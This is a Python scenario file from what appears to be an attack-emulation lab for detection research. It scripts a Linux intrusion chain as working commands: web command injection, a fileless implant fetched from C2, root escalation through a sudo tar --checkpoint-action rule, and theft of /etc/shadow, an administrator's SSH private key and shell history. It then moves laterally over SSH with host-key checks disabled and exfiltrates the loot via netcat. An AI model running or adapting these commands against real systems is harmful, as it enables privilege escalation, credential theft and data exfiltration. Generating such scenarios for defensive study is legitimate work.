"""Credential theft and SSH lateral movement to a second host.

Modelled on intrusions where a web foothold becomes root through a careless sudo rule
(GTFOBins-style tar checkpoint), the attacker dumps /etc/shadow, steals an administrator's
private SSH key and reads the history to learn which hosts the admin reaches, then logs in
to the second host with the stolen key, copies a tool there and sends the loot out over a
raw netcat connection.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.scenario import Action, Channel, Plan, Scenario, StepSpec
from provarmor.lab.scenarios.implants import drop_dir, implant_payload
from provarmor.lab.scenarios.steps import (
    delete,
    deletion_step,
    exploit_step,
    implant_step,
    netcat_to_sink,
    start_implant,
    sudo_rule,
    web_exploit,
)

STEPS = (
    exploit_step(
        t.OWNER_USER,
        summary="Command injection in the web application; the shell lists its sudo rights.",
    ),
    implant_step(
        t.FILELESS_STORAGE,
        summary="A Python implant is piped from the C2 server into the interpreter, detached.",
    ),
    StepSpec(
        name="sudo-escalation",
        summary="A NOPASSWD sudo rule for tar runs a script as root through "
        "--checkpoint-action: it copies /etc/shadow.",
        techniques=(t.SUDO, t.SHADOW_FILE),
    ),
    StepSpec(
        name="steal-keys",
        summary="As root again: the administrator's private key and shell history are copied.",
        techniques=(t.PRIVATE_KEYS, t.SHELL_HISTORY, t.REMOTE_SYSTEMS),
    ),
    StepSpec(
        name="lateral-ssh",
        summary="ssh with the stolen key logs in to the second host and runs commands there; "
        "scp copies a tool across.",
        techniques=(t.SSH, t.LATERAL_TOOL_TRANSFER, t.SYSTEM_INFO),
    ),
    StepSpec(
        name="exfil-netcat",
        summary="The loot is tarred and sent to the sink over a raw TCP connection (nc).",
        techniques=(t.ARCHIVE_UTILITY, t.EXFIL_UNENCRYPTED, t.NON_APPLICATION_PROTOCOL),
    ),
    deletion_step("cleanup", "The working directory is deleted."),
)


def plan(ctx: LabContext) -> Plan:
    implant = implant_payload(ctx)
    folder = drop_dir(ctx)
    ops_home = ctx.home(ctx.ops_user)
    host2 = ctx.address("host2")
    remote_tool = f"/tmp/{ctx.names.hidden()}"  # noqa: S108  (the second host's /tmp)
    sudoers = sudo_rule(ctx, files=("backup", "archive", "webops"), program="/usr/bin/tar")
    ssh_options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
    key = f"{folder}/k"
    escalate = (
        "sudo -n tar -cf /dev/null /dev/null --checkpoint=1 "
        f"--checkpoint-action=exec='sh {folder}/r'"
    )
    return Plan(
        setup_files=(sudoers,),
        payloads=(implant,),
        actions=(
            web_exploit("id; sudo -n -l"),
            start_implant(ctx, implant),
            Action(
                step="sudo-escalation",
                channel=Channel.IMPLANT,
                command=f"mkdir -p {folder} && printf '%s\\n' 'id > {folder}/who' "
                f"'cp /etc/shadow {folder}/s' 'chown -R {ctx.web.user} {folder}' > {folder}/r && "
                f"{escalate} && cat {folder}/who",
            ),
            Action(
                step="steal-keys",
                channel=Channel.IMPLANT,
                command=f"printf '%s\\n' 'cp {ops_home}/.ssh/id_ed25519 {key}' "
                f"'cp {ops_home}/.bash_history {folder}/h' "
                f"'chown -R {ctx.web.user} {folder}' > {folder}/r "
                f"&& {escalate} && grep -E 'ssh|rsync' {folder}/h",
            ),
            Action(
                step="lateral-ssh",
                channel=Channel.IMPLANT,
                lateral_to="host2",
                timeout=30,
                command=f"chmod 600 {key} && ssh -i {key} {ssh_options} {ctx.ops_user}@{host2} "
                "'hostname; id; uname -a; ls /home' && "
                f"scp -q -i {key} {ssh_options} /usr/bin/ss {ctx.ops_user}@{host2}:{remote_tool} "
                f"&& ssh -i {key} {ssh_options} {ctx.ops_user}@{host2} "
                f"'{remote_tool} -tn | head -5'",
            ),
            Action(
                step="exfil-netcat",
                channel=Channel.IMPLANT,
                command=f"tar czf - -C {folder} s h k | {netcat_to_sink(ctx)}",
            ),
            delete("cleanup", Channel.IMPLANT, folder),
        ),
        artifacts=(folder, remote_tool),
    )


SCENARIO = Scenario(
    name="credential-theft-lateral",
    title="sudo escalation, shadow and SSH key theft, SSH lateral movement, netcat exfiltration",
    modelled_on="Common Linux intrusion chains: web foothold, GTFOBins sudo abuse, stolen "
    "SSH keys, lateral movement (as in DARPA TC engagement lateral-movement phases)",
    description=(
        "Through the web application's command injection the attacker checks its sudo "
        "rights and starts a fileless Python implant. A NOPASSWD sudo rule for tar lets it "
        "run a script as root via --checkpoint-action: first to copy /etc/shadow, then the "
        "administrator's private SSH key and shell history, which names the second host. "
        "With the stolen key it logs in to the second host over SSH, runs commands there "
        "and copies a tool across with scp. The loot is tarred and piped to netcat towards "
        "the exfiltration sink, and the working directory is deleted."
    ),
    root_cause=(
        "The web application's ping handler (command injection), escalated through the "
        "misconfigured sudo rule for tar; the second host's SSH sessions opened with the "
        "stolen key are the attacker's."
    ),
    steps=STEPS,
    plan=plan,
)
